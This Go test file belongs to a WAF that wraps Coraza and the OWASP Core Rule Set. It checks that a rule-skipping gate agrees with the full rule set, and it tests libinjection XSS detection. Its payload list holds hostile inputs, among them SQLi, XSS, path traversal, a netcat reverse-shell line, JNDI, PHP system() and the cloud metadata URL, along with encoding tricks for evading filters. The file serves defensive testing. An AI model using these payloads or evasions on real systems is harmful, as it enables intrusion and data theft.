package waf

import (
	"bytes"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net/http"
	"net/url"
	"reflect"
	"regexp"
	"regexp/syntax"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/coraza/v3/types"
	"github.com/corazawaf/libinjection-go"
)

var (
	plainOnce sync.Once
	plainWAF  *WAF
	plainErr  error
)

// plain is CRS without the gate and without variants: the full rule set
// the gated WAF must agree with.
func plain(t testing.TB) *WAF {
	t.Helper()
	plainOnce.Do(func() { plainWAF, plainErr = New(Options{noGate: true, noVariants: true}) })
	if plainErr != nil {
		t.Fatal(plainErr)
	}
	return plainWAF
}

// gateAgree runs a request on the gated WAF (on the variant its shape
// picks) and on the full rule set without the gate, and fails on any
// difference in verdict, matched rules and values, TX or body.
func gateAgree(t testing.TB, w, full *WAF, name string, mk func() *http.Request) {
	t.Helper()
	want, s := run(t, full, full.waf, mk())
	engine, err := w.variants.engine(s, w.waf)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := run(t, w, engine, mk())
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%s: gated and full rule set differ\ngated: %+v\nfull:  %+v", name, diff(got, want), diff(want, got))
	}
}

// obfuscations hide a payload behind what CRS's transformations undo
// (and a few that they do not), so the gate's trigger bytes are tested
// one by one.
var obfuscations = map[string]func(string) string{
	"plain": func(s string) string { return s },
	"upper": strings.ToUpper,
	"url": func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			fmt.Fprintf(&b, "%%%02x", s[i])
		}
		return b.String()
	},
	"plus": func(s string) string { return strings.ReplaceAll(s, " ", "+") },
	"entity": func(s string) string {
		return strings.NewReplacer("a", "&#x61;", "s", "&#115;", "<", "&lt;", "/", "&#47;", "e", "&#x65;").Replace(s)
	},
	"js": func(s string) string {
		return strings.NewReplacer("a", `\u0061`, "s", `\x73`, "<", `\u003c`, "e", `\145`).Replace(s)
	},
	"css":     func(s string) string { return strings.NewReplacer("a", `\61 `, "s", `\73`, "e", `\65`).Replace(s) },
	"comment": func(s string) string { return strings.ReplaceAll(s, " ", "/**/") },
	"dashes":  func(s string) string { return strings.ReplaceAll(s, " ", "--\n") },
	"hash":    func(s string) string { return strings.ReplaceAll(s, " ", "#\n") },
	"quotes": func(s string) string {
		return strings.NewReplacer("a", `a'`, "e", `"e`, "s", `s\`, "t", "t^").Replace(s)
	},
	"commas":     func(s string) string { return strings.ReplaceAll(s, " ", ",") },
	"semicolons": func(s string) string { return strings.ReplaceAll(s, " ", ";") },
	"tabs":       func(s string) string { return strings.ReplaceAll(s, " ", "\t\n\v\f\r") },
	"spaces":     func(s string) string { return strings.ReplaceAll(s, " ", "   ") },
	"nul":        func(s string) string { return strings.NewReplacer("a", "a\x00", "e", "\x00e").Replace(s) },
	"dotslash":   func(s string) string { return strings.NewReplacer("/", "/./", "etc", "x/../etc").Replace(s) },
	"backslash":  func(s string) string { return strings.ReplaceAll(s, "/", `\`) },
	"trailing":   func(s string) string { return s + ". " },
	"kelvin":     func(s string) string { return strings.NewReplacer("k", "\u212a", "s", "\u017f").Replace(s) },
	"fullwidth": func(s string) string {
		return strings.NewReplacer("<", "\uff1c", ">", "\uff1e", "'", "\uff07").Replace(s)
	},
	"latin1": func(s string) string { return strings.ReplaceAll(s, " ", "\xa0") },
	"split":  func(s string) string { return strings.ReplaceAll(s, " ", "") },
}

var gatePayloads = []string{
	"1 union select password from users", "1' or '1'='1", "sleep(5)", "benchmark(1000000,md5(1))",
	"<script>alert(1)</script>", "javascript:alert(1)", "<img src=x onerror=alert(1)>", "onload=alert(1)",
	"../../etc/passwd", "/etc/shadow", ".htaccess", "c:\\windows\\win.ini",
	"; cat /etc/passwd", "busybox nc -e /bin/sh 1.2.3.4", "alias ls=rm", "$(whoami)", "`id`", "| powershell -enc abc",
	"${jndi:ldap://x/a}", "{{config.__class__}}", "require('child_process').exec('id')",
	"http://169.254.169.254/latest/meta-data/", "O:8:\"stdClass\":0:{}", "<?php system('id'); ?>",
	"ds\x001", // 920270: @validateByteRange 1-255
}

// placements put a value where CRS reads it.
var placements = map[string]func(v string) *http.Request{
	"json value": func(v string) *http.Request {
		return jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","target":`+jsonString(v)+`}`)
	},
	"json key": func(v string) *http.Request {
		return jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1",`+jsonString(v)+`:1}`)
	},
	"query": func(v string) *http.Request { return req("GET", "/v1/jobs?cursor="+url.QueryEscape(v), "", nil) },
	"query raw": func(v string) *http.Request {
		r := req("GET", "/v1/jobs", "", nil)
		r.URL.RawQuery = "q=" + strings.NewReplacer(" ", "%20", "#", "%23", "&", "%26", "\x00", "%00").Replace(v)
		r.RequestURI = ""
		return r
	},
	"form": func(v string) *http.Request {
		return req("POST", "/v1/jobs", "application/x-www-form-urlencoded", []byte("a="+url.QueryEscape(v)))
	},
	"cookie": func(v string) *http.Request {
		r := req("GET", "/v1/jobs", "", nil)
		r.Header.Set("Cookie", "session="+strings.NewReplacer(";", "", "\x00", "", "\n", "", "\r", "").Replace(v))
		return r
	},
	"user agent": func(v string) *http.Request {
		r := req("GET", "/v1/jobs", "", nil)
		r.Header.Set("User-Agent", strings.NewReplacer("\x00", "", "\n", "", "\r", "").Replace(v))
		return r
	},
	"referer": func(v string) *http.Request {
		r := req("GET", "/v1/jobs", "", nil)
		r.Header.Set("Referer", strings.NewReplacer("\x00", "", "\n", "", "\r", "").Replace(v))
		return r
	},
	"path": func(v string) *http.Request {
		r := req("GET", "/v1/jobs", "", nil)
		r.URL.Path = "/v1/jobs/" + v
		r.URL.RawPath = ""
		return r
	},
}

func jsonString(s string) string {
	var b bytes.Buffer
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// The gate changes nothing CRS decides: verdicts, matched rules with their
// messages and values, the TX collection (anomaly scores) and the body,
// on the attack and legitimate tables (with and without a cookie) and on
// every payload behind every obfuscation in every place CRS reads.
func TestGateAgrees(t *testing.T) {
	w, full := prepared(t), plain(t)
	if w.gateOff != nil {
		t.Fatalf("gate off: %v", w.gateOff)
	}
	for _, c := range tables(t) {
		gateAgree(t, w, full, c.name, replay(t, c.r))
		c.r.Header.Set("Cookie", "session=abc; theme=dark")
		gateAgree(t, w, full, c.name+" with a cookie", replay(t, c.r))
	}
	n, blocked := 0, 0
	for _, p := range gatePayloads {
		for on, ob := range obfuscations {
			v := ob(p)
			for pn, place := range placements {
				name := fmt.Sprintf("%q %s in %s", p, on, pn)
				r := place(v)
				gateAgree(t, w, full, name, replay(t, r))
				n++
				if on == "plain" && pn == "json value" {
					if o, _ := run(t, w, w.waf, place(v)); o.Verdict.Blocked {
						blocked++
					}
				}
			}
		}
	}
	// The payloads are attacks CRS sees: the comparison is not between two
	// rule sets that see nothing.
	if blocked < len(gatePayloads)*2/3 {
		t.Errorf("only %d of %d plain payloads blocked in a JSON value", blocked, len(gatePayloads))
	}
	t.Logf("%d obfuscated requests agree; %d of %d plain payloads blocked in a JSON value", n, blocked, len(gatePayloads))
}

// The gate removes most rules from a legitimate JSON job and keeps the
// rules an attack needs.
func TestGateRemoves(t *testing.T) {
	w := crs(t)
	if w.gateOff != nil {
		t.Fatalf("gate off: %v", w.gateOff)
	}
	removed := func(r *http.Request) map[int]bool {
		out := map[int]bool{}
		s, uri, body := w.shapeOf(r)
		engine, err := w.variants.engine(s, w.waf)
		if err != nil {
			t.Fatal(err)
		}
		if _, _, err := w.inspect(engine, r, uri, body, client, func(tx types.Transaction) {
			// Every id a removal range spans is a rule the gate removes,
			// an id removed at load, or a phase-1 rule of the phase-2
			// gate.
			defer func() {
				ranges := tx.(interface{ GetRuleRemoveByIDRanges() [][2]int }).GetRuleRemoveByIDRanges()
				for _, rg := range ranges {
					// The gate whose rule starts the range emitted it.
					var ph *gatePhase
					for i := range w.gate.phases {
						for _, g := range w.gate.phases[i].rules {
							if g.id == rg[0] {
								ph = &w.gate.phases[i]
							}
						}
					}
					if ph == nil {
						t.Errorf("range %v starts with no gated rule", rg)
						continue
					}
					for i, id := range ph.order {
						if id >= rg[0] && id <= rg[1] && !out[id] && !ph.free[i] {
							t.Errorf("range %v spans rule %d, which the gate keeps", rg, id)
						}
					}
				}
				if len(ranges) == 0 {
					t.Error("no removal ranges")
				}
			}()
			for _, ph := range w.gate.phases {
				kept := map[int]bool{}
				for _, l := range ph.explain(tx.(plugintypes.TransactionState)) {
					var id int
					fmt.Sscanf(l, "%d:", &id)
					kept[id] = true
				}
				for _, g := range ph.rules {
					if !kept[g.id] {
						out[g.id] = true
					}
				}
			}
		}); err != nil {
			t.Fatal(err)
		}
		return out
	}
	job := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F","rows":1000,"model":"tree","seed":42,"target":"charges"}`))
	if len(job) < 70 {
		t.Errorf("a JSON job: %d rules removed, want at least 70", len(job))
	}
	for id, want := range map[int]bool{
		942100: true,  // libinjection finds no SQLi in any value
		941100: true,  // nor XSS
		942360: false, // "char" in "charges"
		949110: false, // the anomaly evaluation (@ge): not covered
		920540: false, // in 920539's skip window
		920270: true,  // no byte outside 1-255, no percent or plus sign for urlDecodeUni
		930110: true,  // no two of a dot's spellings in a row ({2,3}: pairs)
	} {
		if job[id] != want {
			t.Errorf("JSON job: rule %d removed %v, want %v", id, job[id], want)
		}
	}
	if nul := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"ds\u00001"}`)); nul[920270] {
		t.Error("a NUL byte in a JSON value: rule 920270 (@validateByteRange 1-255) removed")
	}
	sqli := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"1 union select password from users"}`))
	for _, id := range []int{942100, 942270, 942190} {
		if sqli[id] {
			t.Errorf("SQLi payload: rule %d removed", id)
		}
	}
	t.Logf("removed: %d for a JSON job, %d with an SQLi payload", len(job), len(sqli))
}

// corpus is every payload behind every obfuscation, and the tables'
// strings.
func corpus() []string {
	var out []string
	for _, p := range gatePayloads {
		for _, ob := range obfuscations {
			out = append(out, ob(p), strings.ToLower(ob(p)))
		}
	}
	return out
}

// Every CRS expression's clauses hold for every match it finds in the
// corpus: one literal of each clause occurs (ASCII case-insensitively) in
// the matched text, for the clauses of values without non-ASCII bytes and
// those of values without rare bytes. Matches are what the gate must never
// rule out.
func TestNeedlesSound(t *testing.T) {
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil {
		t.Fatal(err)
	}
	op := regexp.MustCompile(`"@rx ((?:[^"\\]|\\.)*)"`)
	texts := corpus()
	checked, matched := 0, 0
	for _, f := range files {
		b, err := fs.ReadFile(coreruleset.FS, f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range op.FindAllStringSubmatch(string(b), -1) {
			pattern := strings.ReplaceAll(m[1], `\"`, `"`)
			re, err := regexp.Compile("(?sm)" + pattern)
			if err != nil {
				continue
			}
			parsed, err := syntax.Parse("(?sm)"+pattern, syntax.Perl)
			if err != nil {
				t.Fatal(err)
			}
			all, plain := needles(parsed, nonASCII), needles(parsed, rare)
			checked++
			for _, s := range texts {
				for _, hit := range re.FindAllString(s, -1) {
					matched++
					check := func(name string, clauses [][]string, excluded byteSet) {
						for i := 0; i < len(hit); i++ {
							if excluded.has(hit[i]) {
								return // the trigger keeps the rule
							}
						}
						low := strings.ToLower(hit)
						for _, c := range clauses {
							ok := false
							for _, n := range c {
								if strings.Contains(low, n) {
									ok = true
									break
								}
							}
							if !ok {
								t.Errorf("%s: %.80s matches %q, which holds none of %q (%s clauses)", f, pattern, hit, c, name)
							}
						}
					}
					check("all", all, nonASCII)
					check("plain", plain, rare)
				}
			}
		}
	}
	if checked < 200 || matched < 500 {
		t.Errorf("%d expressions, %d matches checked: too few to say anything", checked, matched)
	}
	t.Logf("%d expressions, %d matches", checked, matched)
}

// Random requests agree with and without the gate.
func FuzzGateAgrees(f *testing.F) {
	for _, p := range gatePayloads[:8] {
		f.Add("POST", "/v1/jobs", "", "application/json", "", []byte(`{"a":`+jsonString(p)+`}`))
		f.Add("GET", "/v1/jobs", "q="+url.QueryEscape(p), "", "", []byte(nil))
	}
	f.Add("GET", "/v1/jobs", "", "", "a=<script>", []byte(nil))
	w, full := prepared(f), plain(f)
	f.Fuzz(func(t *testing.T, method, path, query, ctype, cookie string, body []byte) {
		build, ok := fuzzRequest(method, path, query, ctype, cookie, body)
		if !ok {
			t.Skip()
		}
		gateAgree(t, w, full, "fuzz", build)
	})
}

// Rules the gate cannot judge stay out of it, and rule sets whose text
// does not show what Coraza runs get no gate.
func TestGateRefuses(t *testing.T) {
	rule := func(vars, op, actions string) ruleInfo {
		return analyse(fakeRule{id: 1, raw: `SecRule ` + vars + ` "` + op + `" "` + actions + `"`})
	}
	for _, c := range []struct {
		vars, op, actions, why string
	}{
		{"ARGS", "@rx union", "id:1,phase:2,t:none,t:urlDecodeUni", ""},
		{"ARGS|REQUEST_HEADERS:User-Agent", "@pm select union", "id:1,phase:2,t:none,t:lowercase", ""},
		{"ARGS", "@rx union", "id:1,phase:2,t:none,t:base64Decode", "transformation base64Decode"},
		{"ARGS", "!@rx union", "id:1,phase:2", "negated"},
		{"ARGS", "@rx .*", "id:1,phase:2", "no literals"},
		{"TX:foo", "@rx union", "id:1,phase:2", "variable TX"},
		{"ARGS", "@validateByteRange 1-255", "id:1,phase:2,t:urlDecodeUni", ""},
		{"ARGS", "@validateByteRange 1-256", "id:1,phase:2", "byte range: byte 256 out of range"},
		{"ARGS", "@validateByteRange 1-x", "id:1,phase:2", `byte range: strconv.Atoi: parsing "x": invalid syntax`},
		{"ARGS", "@validateByteRange 32-126", "id:1,phase:2,t:base64Decode", "transformation base64Decode"},
		{"ARGS", "@pm a  b", "id:1,phase:2", "empty phrase"},
	} {
		raw := `SecRule ` + c.vars + ` "` + c.op + `" "` + c.actions + `"`
		_, why := gateCandidate(raw, rule(c.vars, c.op, c.actions), nil)
		if why != c.why {
			t.Errorf("%s: %q, want %q", raw, why, c.why)
		}
	}
	for _, d := range []string{
		`SecRuleUpdateActionById 942100 "t:base64Decode"`,
		`SecRule RULE:id "@eq 1" "id:10200,phase:2,pass,nolog"`,
		`SecRuleUpdateTargetById 942100 "REQUEST_HEADERS:X-Foo"`,
	} {
		w, err := New(Options{Directives: d})
		if err != nil {
			continue
		}
		if w.gateOff == nil {
			t.Errorf("gate on with %s", d)
		}
	}
}

type fakeRule struct {
	types.RuleMetadata
	id  int
	raw string
}

func (r fakeRule) ID() int                { return r.id }
func (r fakeRule) Raw() string            { return r.raw }
func (r fakeRule) Phase() types.RulePhase { return types.PhaseRequestBody }
func (r fakeRule) Tags() []string         { return nil }

// strip drops the bytes of s from v.
func strip(v string, s byteSet) string {
	return strings.Map(func(r rune) rune {
		if r < 0x80 && s.has(byte(r)) {
			return -1
		}
		return r
	}, v)
}

// libinjection's IsXSS finds nothing in a value without a byte of
// xssNeeds: the corpus and XSS fragments with those bytes dropped, and
// random strings of the fragments and every other byte. And '<' and '='
// are each one a payload needs (the set says something; the others are
// kept for safety).
func TestXSSNeeds(t *testing.T) {
	frags := []string{"javascript:", "vbscript:", "data:text/html", "onerror", "onload", "style", "srcdoc", "href",
		"script", "alert(1)", "expression(", "&#x3c;", "&lt;", "!doctype", "!--", "?xml", "![cdata[", "\x00", " ", "\t",
		"\n", "\x0b", "\f", "\r", "iframe", "svg", "xmlns", "formaction", "-->", "\\", "%3c", "+", ";", "&", "`"}
	for b := 0; b < 256; b++ {
		frags = append(frags, string(rune(b)), string([]byte{byte(b)}))
	}
	var vals []string
	for _, v := range append(corpus(), frags...) {
		vals = append(vals, strip(v, xssNeeds))
	}
	rnd := rand.New(rand.NewPCG(1, 2))
	for range 20000 {
		var b strings.Builder
		for range 1 + rnd.IntN(8) {
			b.WriteString(frags[rnd.IntN(len(frags))])
		}
		vals = append(vals, strip(b.String(), xssNeeds))
	}
	for _, v := range vals {
		if holds(v, xssNeeds) {
			t.Fatalf("%q: not stripped", v)
		}
		if libinjection.IsXSS(v) {
			t.Errorf("IsXSS(%q) without a byte of xssNeeds", v)
		}
	}
	for _, c := range []struct {
		v    string
		need byte
	}{
		{"<script>alert(1)</script>", '<'},
		{"x onerror=alert(1)", '='},
	} {
		if !libinjection.IsXSS(c.v) {
			t.Errorf("IsXSS(%q) false", c.v)
		}
		var one byteSet
		one.add(c.need)
		if libinjection.IsXSS(strip(c.v, one)) {
			t.Errorf("IsXSS(%q) true without %q", strip(c.v, one), c.need)
		}
	}
}
